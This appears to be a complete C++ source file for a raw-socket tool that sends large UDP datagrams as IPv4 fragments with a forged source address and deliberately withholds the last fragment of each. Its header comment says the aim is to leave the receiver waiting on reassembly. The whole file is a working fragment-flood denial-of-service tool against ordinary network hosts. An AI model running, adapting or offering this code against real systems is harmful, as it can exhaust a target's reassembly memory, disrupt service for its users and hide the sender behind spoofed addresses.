// SPDX-License-Identifier: Apache-2.0
// Sends UDP datagrams of 60 000 octets in IPv4 fragments, of which the last never comes: who reassembles them waits.
//
//   fragments FROM TO COUNT [OCTETS]    addresses; OCTETS of payload in a fragment (1480)
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <vector>

namespace {

constexpr std::size_t kDatagram = 60'000;

[[noreturn]] void die(const char* what) {
  std::fprintf(stderr, "fragments: %s: %s\n", what, std::strerror(errno));
  std::exit(1);
}

}  // namespace

int main(int argc, char** argv) {
  const std::size_t payload = argc > 4 ? std::strtoul(argv[4], nullptr, 0) : 1480;
  iphdr ip{};
  ip.version = 4;
  ip.ihl = sizeof(ip) / 4;
  ip.ttl = 64;
  ip.protocol = IPPROTO_UDP;
  sockaddr_in to{};
  to.sin_family = AF_INET;
  if (argc < 4 || payload % 8 != 0 || payload == 0 || inet_pton(AF_INET, argv[1], &ip.saddr) != 1 ||
      inet_pton(AF_INET, argv[2], &to.sin_addr) != 1) {
    std::fprintf(stderr, "usage: fragments FROM TO COUNT [OCTETS]\n");
    return 2;
  }
  ip.daddr = to.sin_addr.s_addr;
  const int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (fd < 0) die("socket");

  std::vector<std::uint8_t> packet(sizeof(ip) + payload, 0x5a);
  udphdr udp{};
  udp.dest = htons(9);
  udp.len = htons(static_cast<std::uint16_t>(kDatagram + sizeof(udp)));
  const int count = std::atoi(argv[3]);
  for (int i = 0; i < count; ++i) {
    ip.id = htons(static_cast<std::uint16_t>(i + 1));
    for (std::size_t at = 0; at + payload < kDatagram; at += payload) {
      ip.frag_off = htons(static_cast<std::uint16_t>(IP_MF | at / 8));
      std::memcpy(packet.data(), &ip, sizeof(ip));
      std::memset(packet.data() + sizeof(ip), 0x5a, sizeof(udp));
      if (at == 0) std::memcpy(packet.data() + sizeof(ip), &udp, sizeof(udp));
      while (sendto(fd, packet.data(), packet.size(), 0, static_cast<sockaddr*>(static_cast<void*>(&to)), sizeof(to)) <
             0) {
        if (errno != ENOBUFS) die("send");
        usleep(1000);
      }
    }
  }
  return 0;
}
